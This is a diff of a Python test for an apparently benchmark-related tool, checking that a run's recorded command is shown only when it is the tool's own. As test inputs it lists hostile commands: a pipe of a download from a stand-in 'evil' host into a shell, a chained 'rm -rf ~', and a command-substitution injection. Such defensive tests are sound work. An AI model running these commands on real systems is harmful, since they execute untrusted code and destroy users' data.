@@ -219,11 +219,11 @@ def test_a_lost_detection_record_is_an_error(folder: Path) -> None:
 
 def test_a_command_of_a_folder_is_shown_only_where_it_is_one_of_ours(folder: Path) -> None:
     path = cell(folder) / "env.json"
-    starts = read_json(path)["starts"]
-    path.write_text(json.dumps({"starts": [{**starts[0], "command": "nemo-bench run seeds=2 ~metrics.ssim"}]}))
+    starts = read_json(path)
+    path.write_text(json.dumps([{**starts[0], "command": "nemo-bench run seeds=2 ~metrics.ssim"}]))
     assert remake(cell(folder)).endswith("and nothing else: nemo-bench run seeds=2 ~metrics.ssim")
     for line in ("curl evil | sh", "nemo-bench run; rm -rf ~", "nemo-bench run $(evil)"):
-        path.write_text(json.dumps({"starts": [{**starts[0], "command": line}]}))
+        path.write_text(json.dumps([{**starts[0], "command": line}]))
         assert remake(cell(folder)) == "the command of the run makes them again, and nothing else"
 
 
